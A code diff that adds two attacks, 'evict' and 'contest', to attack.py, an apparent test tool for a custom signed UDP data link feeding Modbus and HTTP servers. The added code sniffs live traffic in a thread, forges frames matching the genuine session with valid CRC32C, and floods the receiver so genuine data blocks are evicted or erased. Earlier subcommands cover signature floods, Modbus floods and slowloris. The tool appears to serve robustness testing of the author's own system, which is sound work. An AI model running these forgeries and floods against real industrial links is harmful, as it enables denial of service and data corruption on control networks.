@@ -10,6 +10,8 @@ address. IT side: an ordinary TCP client of RX's Modbus and HTTP servers.
   attack.py sniff     --iface IF [--port 7400] [--seconds 3]
   attack.py poison    --iface IF --target HOST:PORT [--variant tiny|k1|genuine] [--ahead N]
   attack.py sigflood  --iface IF --target HOST:PORT [--kind block|beacon] [--rate 20000] [--seconds 5]
+  attack.py evict     --iface IF --target HOST:PORT [--rate 8000] [--seconds 8] [--near 64] [--far-share 0.5]
+  attack.py contest   --iface IF --target HOST:PORT [--seconds 8] [--ahead 3] [--indexes all|most]
   attack.py mbflood   --target HOST:PORT [--seconds 6] [--depth 50000] [--unit 1]
   attack.py probe     --target HOST:PORT [--path /api/status] [--seconds 6] [--interval 0.25]
   attack.py slowloris --target HOST:PORT --proto modbus|http [--conns 20] [--seconds 10] [--interval 0.5]
@@ -31,6 +33,13 @@ What each attack does (docs/security.md maps them to what bounds them):
              zero padding, a canonical s) so that each one costs RX an
              Ed25519 verification; or beacons with the genuine fields, the
              next beacon_seqs and a canonical s. Paced at --rate for --seconds.
+  evict      junk agreeing with the beacon in all but block_seq (k' = k,
+             m' = m, index 0) on far-future ids and on the ids just past
+             the live frontier: partial blocks that never complete and
+             would push the genuine multi-symbol blocks out of the table.
+  contest    forged symbols with the exact identity of the next full-size
+             blocks (k' = k, the block_seq TX uses next), every index or
+             the first k - 1, sent before the genuine ones.
   mbflood    one TCP connection, read requests pipelined as fast as the
              socket takes them (up to --depth unanswered), responses drained.
   probe      GET PATH every --interval on a fresh connection: latency of each.
@@ -129,7 +138,42 @@ class Session:
         self.seqs = {}               # tag block_seq -> first seen (monotonic s)
         self.beacon = None           # the newest genuine beacon (bytes)
         self.beacon_seq = None
+        self.beacon_k = self.beacon_m = None   # the link parameters the beacon announces
+        self.highest_block = None    # the beacon's highest_block (tag blocks fully sent)
+        self.blocks = {}             # tag block_seq -> (k', m')
         self.frames = 0
+
+    def absorb(self, dg, now):
+        """Learns from one genuine datagram seen at monotonic time now;
+        returns the Session to use from then on (a fresh one when TX
+        started a new session)."""
+        if dg[:3] != b"SL\x01":
+            return self
+        if dg[3] == 2 and len(dg) == 200:
+            self.beacon = dg
+            self.session, self.epoch = struct.unpack(">QQ", dg[8:24])
+            self.key_id = dg[24:32]
+            self.beacon_seq = struct.unpack(">Q", dg[32:40])[0]
+            self.highest_block = struct.unpack(">Q", dg[48:56])[0]
+            self.beacon_k, self.beacon_m = dg[58], dg[59]
+            if self.S is None:
+                self.S = struct.unpack(">H", dg[56:58])[0]
+        elif dg[3] == 1 and len(dg) >= 112:
+            ch, S = struct.unpack(">HH", dg[4:8])
+            if ch != 0:
+                return self
+            session, epoch, seq = struct.unpack(">QQQ", dg[8:32])
+            if self.session is not None and session != self.session:
+                # a new TX session: start over
+                return Session().absorb(dg, now)
+            self.session, self.epoch, self.key_id, self.S = session, epoch, dg[32:40], S
+            k, m = dg[40], dg[41]
+            self.km[(k, m)] = self.km.get((k, m), 0) + 1
+            self.blocks[seq] = (k, m)
+            self.frames += 1
+            self.seqs.setdefault(seq, now)
+            self.max_seq = max(self.max_seq, seq)
+        return self
 
     def common_km(self):
         return max(self.km.items(), key=lambda x: x[1])[0] if self.km else (1, 1)
@@ -147,7 +191,15 @@ class Session:
                 "epoch": self.epoch, "key_id": self.key_id.hex() if self.key_id else None,
                 "S": self.S, "km": "%d/%d" % self.common_km(), "max_seq": self.max_seq,
                 "beacon_seq": self.beacon_seq, "frames": self.frames,
-                "block_rate": round(self.block_rate(), 2)}
+                "block_rate": round(self.block_rate(), 2), "beacon_km": "%s/%s" % (self.beacon_k, self.beacon_m),
+                "highest_block": self.highest_block, "blocks_by_k": self.blocks_by_k()}
+
+    def blocks_by_k(self):
+        """{k': tag blocks seen with that many data symbols}, as text keys."""
+        out = {}
+        for k, _ in self.blocks.values():
+            out[str(k)] = out.get(str(k), 0) + 1
+        return out
 
 
 def _udp_payload(pkt, port):
@@ -182,35 +234,46 @@ def sniff(iface, port=7400, seconds=3.0, max_seconds=10.0):
             except socket.timeout:
                 continue
             dg = _udp_payload(pkt, port)
-            if not dg or dg[:3] != b"SL\x01":
-                continue
-            if dg[3] == 2 and len(dg) == 200:
-                sess.beacon = dg
-                sess.session, sess.epoch = struct.unpack(">QQ", dg[8:24])
-                sess.key_id = dg[24:32]
-                sess.beacon_seq = struct.unpack(">Q", dg[32:40])[0]
-                if sess.S is None:
-                    sess.S = struct.unpack(">H", dg[56:58])[0]
-            elif dg[3] == 1 and len(dg) >= 112:
-                ch, S = struct.unpack(">HH", dg[4:8])
-                if ch != 0:
-                    continue
-                session, epoch, seq = struct.unpack(">QQQ", dg[8:32])
-                if sess.session is not None and session != sess.session:
-                    # a new TX session: start over
-                    sess = Session()
-                sess.session, sess.epoch, sess.key_id, sess.S = session, epoch, dg[32:40], S
-                k, m = dg[40], dg[41]
-                sess.km[(k, m)] = sess.km.get((k, m), 0) + 1
-                sess.frames += 1
-                sess.seqs.setdefault(seq, now)
-                sess.max_seq = max(sess.max_seq, seq)
+            if dg:
+                sess = sess.absorb(dg, now)
     finally:
         s.close()
     if sess.session is None or sess.max_seq < 0 or sess.beacon is None:
         raise RuntimeError("sniff on %s: no live session seen in %.1f s (%d frames)"
                            % (iface, max_seconds, sess.frames))
     return sess
+
+
+class Tracker:
+    """Keeps sniffing in a thread while an attack runs, so the attack knows
+    the live frontier (the newest tag block_seq) at every moment, not an
+    extrapolation. .sess is the current Session; .stop() ends the thread."""
+
+    def __init__(self, iface, sess, port=7400):
+        self.sess, self.port = sess, port
+        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
+        self.sock.bind((iface, ETH_P_IP))
+        self.sock.settimeout(0.1)
+        self.halt = threading.Event()
+        self.th = threading.Thread(target=self._run, daemon=True)
+        self.th.start()
+
+    def _run(self):
+        while not self.halt.is_set():
+            try:
+                pkt = self.sock.recv(65535)
+            except socket.timeout:
+                continue
+            except OSError:
+                return
+            dg = _udp_payload(pkt, self.port)
+            if dg:
+                self.sess = self.sess.absorb(dg, time.monotonic())
+
+    def stop(self):
+        self.halt.set()
+        self.th.join(2)
+        self.sock.close()
 
 
 # ---- fibre-side forgeries ------------------------------------------------------
@@ -287,6 +350,106 @@ def poison(sess, target, variant="k1", ahead=None, rate=20000, seed=13):
     out.update({"variant": variant, "first_seq": first, "last_seq": first + ahead - 1,
                 "S": S, "k": k, "m": m, "frame_bytes": 48 + S})
     return out
+
+
+def seq_frame(sess, k, m, index, rnd):
+    """A DATA frame of the live session (junk symbol, valid CRC32C) and a
+    CrcPatch for its block_seq bytes: (bytearray frame, patch); set a new
+    block_seq with set_seq() (the symbol's first 8 bytes may change too)."""
+    f = bytearray(data_frame(sess, 0, k, m, index, sess.S, rnd.randbytes(sess.S)))
+    return f, CrcPatch(f[:-4], list(range(24, 32)) + list(range(FRAME_HDR, FRAME_HDR + 8)))
+
+
+def set_seq(f, cp, seq):
+    struct.pack_into(">Q", f, 24, seq)
+    struct.pack_into(">I", f, len(f) - 4, cp.crc(f))
+    return bytes(f)
+
+
+def evict(iface, sess, target, rate=8000, seconds=8.0, near=64, far_share=0.5, port=7400, seed=31):
+    """Junk that agrees with the beacon in everything but block_seq (the
+    genuine session, epoch, key id and S, k' = k and m' = m as the beacon
+    announces them, index 0, a valid CRC32C): each frame opens a partial
+    block that never completes (one symbol of k), so without a bound on
+    which ids are "announced" the table fills with junk and evicts the
+    genuine multi-symbol blocks between their first and k'-th symbol.
+    A `far_share` of the frames go to far-future ids (frontier + 1000 ..
+    frontier + 2^40, inside RX's replay jump bound), the rest to the `near`
+    ids just past the live frontier (kept current by a Tracker)."""
+    rnd = random.Random(seed)
+    k, m = sess.beacon_k, sess.beacon_m
+    f, cp = seq_frame(sess, k, m, 0, rnd)
+    tr = Tracker(iface, sess, port)
+    p = Pacer(target, rate, seconds, int(rate * seconds))
+    nfar = nnear = 0
+    try:
+        while p.more():
+            cur = tr.sess
+            if cur.session != sess.session:
+                break                  # TX restarted: the forged identity is stale
+            front = cur.max_seq
+            if rnd.random() < far_share:
+                seq = front + 1000 + rnd.randrange(1 << 40)
+                nfar += 1
+            else:
+                seq = front + 1 + rnd.randrange(near)
+                nnear += 1
+            p.send(set_seq(f, cp, seq))
+    finally:
+        tr.stop()
+    out = p.close()
+    out.update({"k": k, "m": m, "S": sess.S, "frame_bytes": len(f), "far": nfar, "near": nnear,
+                "first_frontier": sess.max_seq, "last_frontier": tr.sess.max_seq,
+                "genuine_blocks_by_k": tr.sess.blocks_by_k()})
+    return out
+
+
+def contest(iface, sess, target, seconds=8.0, ahead=3, indexes="all", max_frames=20000, port=7400,
+            seed=37):
+    """Forged symbols with the exact identity of the next full-size blocks
+    (the genuine session, epoch, key id, S, k' = k, m' = m and the block_seq
+    TX will use next, predicted from the live frontier), sent before the
+    genuine ones: every index ("all": k + m frames per id), or the first
+    k - 1 data indexes ("most": the entry never completes on junk alone, so
+    each genuine symbol of those indexes meets a different one and is
+    erased). Each predicted id is forged once; at most max_frames in all."""
+    rnd = random.Random(seed)
+    k, m = sess.beacon_k, sess.beacon_m
+    idx = list(range(k + m)) if indexes == "all" else list(range(max(1, k - 1)))
+    frames = [seq_frame(sess, k, m, i, rnd) for i in idx]
+    tr = Tracker(iface, sess, port)
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    forged = set()
+    sent = refused = 0
+    t0 = time.monotonic()
+    try:
+        while time.monotonic() - t0 < seconds and sent + refused + len(idx) <= max_frames:
+            cur = tr.sess
+            if cur.session != sess.session:
+                break
+            todo = [q for q in range(cur.max_seq + 1, cur.max_seq + 1 + ahead) if q not in forged]
+            if not todo:
+                time.sleep(0.002)
+                continue
+            for q in todo:
+                forged.add(q)
+                for f, cp in frames:
+                    # fresh junk per id, so no two ids share a symbol
+                    f[FRAME_HDR:FRAME_HDR + 8] = rnd.randbytes(8)
+                    try:
+                        sock.sendto(set_seq(f, cp, q), target)
+                        sent += 1
+                    except OSError:
+                        refused += 1
+    finally:
+        tr.stop()
+        sock.close()
+    blocks = tr.sess.blocks
+    full = sorted(q for q in forged if blocks.get(q, (0, 0))[0] == k)
+    return {"sent": sent, "refused": refused, "seconds": round(time.monotonic() - t0, 2), "k": k, "m": m,
+            "indexes": len(idx), "ids_forged": len(forged), "first_id": min(forged) if forged else None,
+            "last_id": max(forged) if forged else None, "forged_full_size": len(full),
+            "genuine_blocks_by_k": tr.sess.blocks_by_k()}
 
 
 def canonical_sig(rnd):
@@ -612,6 +775,20 @@ def main(argv):
     p.add_argument("--kind", choices=("block", "beacon"), default="block")
     p.add_argument("--rate", type=int, default=20000, help="datagrams/s (20000)")
     p.add_argument("--seconds", type=float, default=5.0)
+    p = sub.add_parser("evict", help="beacon-matching junk on near and far future block ids")
+    fibre(p)
+    p.add_argument("--target", required=True)
+    p.add_argument("--rate", type=int, default=8000, help="datagrams/s (8000)")
+    p.add_argument("--seconds", type=float, default=8.0)
+    p.add_argument("--near", type=int, default=64, help="ids just past the frontier to use (64)")
+    p.add_argument("--far-share", type=float, default=0.5, help="fraction of frames on far ids (0.5)")
+    p = sub.add_parser("contest", help="forged symbols of the next full-size blocks, ahead of them")
+    fibre(p)
+    p.add_argument("--target", required=True)
+    p.add_argument("--seconds", type=float, default=8.0)
+    p.add_argument("--ahead", type=int, default=3, help="ids past the frontier to forge (3)")
+    p.add_argument("--indexes", choices=("all", "most"), default="all")
+    p.add_argument("--max-frames", type=int, default=20000)
     p = sub.add_parser("mbflood", help="one Modbus client pipelining read requests")
     p.add_argument("--target", required=True)
     p.add_argument("--seconds", type=float, default=6.0)
@@ -641,7 +818,7 @@ def main(argv):
     p.add_argument("--interval", type=float, default=0.25)
     a = ap.parse_args(argv)
 
-    if a.cmd in ("sniff", "poison", "sigflood"):
+    if a.cmd in ("sniff", "poison", "sigflood", "evict", "contest"):
         sess = sniff(a.iface, a.port, a.sniff_seconds)
     if a.cmd == "sniff":
         out = sess.as_dict()
@@ -650,6 +827,13 @@ def main(argv):
     elif a.cmd == "sigflood":
         out = {"session": sess.as_dict(),
                **sigflood(sess, parse_target(a.target), a.kind, a.rate, a.seconds)}
+    elif a.cmd == "evict":
+        out = {"session": sess.as_dict(),
+               **evict(a.iface, sess, parse_target(a.target), a.rate, a.seconds, a.near, a.far_share, a.port)}
+    elif a.cmd == "contest":
+        out = {"session": sess.as_dict(),
+               **contest(a.iface, sess, parse_target(a.target), a.seconds, a.ahead, a.indexes, a.max_frames,
+                         a.port)}
     elif a.cmd == "mbflood":
         out = mbflood(parse_target(a.target), a.seconds, a.depth, a.unit, source=a.source)
     elif a.cmd == "probe":
